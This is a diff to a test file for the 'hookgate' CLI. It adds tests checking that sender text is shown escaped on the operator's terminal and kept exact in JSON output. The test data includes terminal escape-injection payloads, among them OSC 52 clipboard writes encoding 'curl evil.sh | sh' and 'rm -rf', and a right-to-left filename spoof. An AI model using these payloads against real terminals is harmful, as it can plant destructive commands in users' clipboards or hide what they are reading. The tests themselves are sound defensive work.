@@ -156,7 +156,9 @@ describe("hookgate runs", () => {
   });
 
   it("explains bad input and unknown runs", async () => {
-    expect((await cli(runs, ["show", "nope", "--store", file])).err).toContain(`no run nope in ${file}`);
+    const unknown = await cli(runs, ["show", "nope", "--store", file]);
+    expect(unknown.code).toBe(1);
+    expect(unknown.err).toContain(`no run whose id is or starts with "nope" in ${file}`);
     const status = await cli(runs, ["--store", file, "--status", "done"]);
     expect(status.code).toBe(1);
     expect(status.err).toContain(
@@ -269,5 +271,124 @@ describe("hookgate events", () => {
     expect((await cli(events, ["--store", file])).out).toBe("No events.\n");
     expect((await cli(events, ["--help"])).out).toContain("--heartbeats");
     expect((await cli(events, ["--bogus"])).code).toBe(1);
+  });
+});
+
+describe("sender text on the operator's terminal", () => {
+  // Erase line, OSC 52 clipboard write ended by BEL and by ST, CSI colour, the one-byte C1 CSI, and a
+  // right-to-left override that makes `exe.pdf` read as `fdp.exe`.
+  const ATTACKS = [
+    "ok\x1b[2K\x1b[1A",
+    "\x1b]52;c;Y3VybCBldmlsLnNoIHwgc2g=\x07",
+    "\x1b]52;c;cm0gLXJm\x1b\\",
+    "\x1b[31mred",
+    "\u009b2J",
+    "invoice_\u202efdp.exe",
+  ];
+  const EVIL = ATTACKS.join(" | ");
+  const RAW_CONTROL = /[\0-\x09\x0b-\x1f\x7f-\x9f\u061c\u200e\u200f\u2028-\u202e\u2066-\u2069]/;
+
+  /** No raw control character anywhere but in the line breaks between rows and lines. */
+  function expectNoRawControl(out: string): void {
+    expect(out).not.toMatch(RAW_CONTROL);
+  }
+
+  it("events and heartbeats show escapes, and --json keeps the exact text", async () => {
+    await writer.acceptWake({ text: EVIL, mode: "now", source: "mail\x1b[8m", receivedAt: T0 }, () => ({
+      status: 200,
+      body: {},
+    }));
+    await writer.recordHeartbeat({
+      reason: "now",
+      status: "replied",
+      startedAt: T0,
+      finishedAt: T0 + 1,
+      eventIds: [1],
+      reply: "\x1b]52;c;ZXZpbA==\x07done",
+    });
+    const table = await cli(events, ["--store", file]);
+    expectNoRawControl(table.out);
+    expect(table.out).toContain("ok\\x1b[2K\\x1b[1A | \\x1b]52;c;Y3VybCBldmlsLnNoIHwgc2g=\\x07 |");
+    expect(table.out).toContain("mail\\x1b[8m");
+    const beats = await cli(events, ["--store", file, "--heartbeats"]);
+    expectNoRawControl(beats.out);
+    expect(beats.out).toContain("\\x1b]52;c;ZXZpbA==\\x07done");
+    const json = await cli(events, ["--store", file, "--json"]);
+    expect(JSON.parse(json.out)[0]).toMatchObject({ text: EVIL, source: "mail\x1b[8m" });
+  });
+
+  it("runs and runs show escape every field; show keeps the line breaks of prompt and reply", async () => {
+    await writer.acceptRun(
+      {
+        id: "run-evil",
+        name: `Mail ${ATTACKS[0]}`,
+        message: `Subject: ${ATTACKS[1]}\nBody: ${ATTACKS[5]}`,
+        agentId: "ops\x1b[2K",
+        sessionKey: "hook:mail:\u009b2J",
+        model: "m\u202e",
+        wakeMode: "now",
+        deliver: true,
+        channel: "telegram",
+        to: "123\x1b[A",
+        mappingId: "map\x07",
+        receivedAt: T0,
+      },
+      () => ({ status: 202, body: {} }),
+    );
+    await writer.claimRuns(1, T0 + 1);
+    await writer.startRun("run-evil", {
+      resolvedAgentId: "ops\x1b[2K",
+      prompt: {
+        runner: "llm",
+        systemPrompt: `sys ${ATTACKS[2]}`,
+        transcriptMessages: 0,
+        message: `Subject: ${ATTACKS[1]}\nBody: ${ATTACKS[5]}`,
+        timeoutSeconds: 60,
+      },
+    });
+    await writer.finishRun("run-evil", {
+      status: "failed",
+      reply: `line one ${ATTACKS[3]}\r\nline two ${ATTACKS[4]}`,
+      error: `bad\nforged line ${ATTACKS[0]}`,
+      finishedAt: T0 + 2,
+    });
+    await writer.setDelivery("run-evil", {
+      status: "failed",
+      messageIds: ["\x1b[2K"],
+      reason: "refused \u2066x\u2069",
+      updatedAt: T0 + 3,
+    });
+
+    const list = await cli(runs, ["--store", file]);
+    expect(list.code).toBe(0);
+    expectNoRawControl(list.out);
+    expect(list.out.split("\n")).toHaveLength(3);
+    expect(list.out).toContain("Mail ok\\x1b[2K\\x1b[1A");
+
+    const show = await cli(runs, ["show", "run-evil", "--store", file]);
+    expect(show.code).toBe(0);
+    expectNoRawControl(show.out);
+    for (const shown of [
+      "  name      Mail ok\\x1b[2K\\x1b[1A",
+      "  session   hook:mail:\\x9b2J",
+      "  agent     ops\\x1b[2K",
+      "  mapping   map\\x07",
+      "  error     bad\\nforged line ok\\x1b[2K\\x1b[1A",
+      "    sys \\x1b]52;c;cm0gLXJm\\x1b\\",
+      "    Subject: \\x1b]52;c;Y3VybCBldmlsLnNoIHwgc2g=\\x07",
+      "    Body: invoice_\\u202efdp.exe",
+      "    line one \\x1b[31mred\\r",
+      "    line two \\x9b2J",
+    ])
+      expect(show.out.split("\n")).toContain(shown);
+    expect(show.out).toContain("failed — telegram 123\\x1b[A; message ids \\x1b[2K; refused \\u2066x\\u2069");
+    expect(show.out).not.toMatch(/^forged line/m);
+
+    const json = await cli(runs, ["show", "run-evil", "--store", file, "--json"]);
+    expect(JSON.parse(json.out)).toMatchObject({
+      name: `Mail ${ATTACKS[0]}`,
+      reply: `line one ${ATTACKS[3]}\r\nline two ${ATTACKS[4]}`,
+      delivery: { reason: "refused \u2066x\u2069" },
+    });
   });
 });
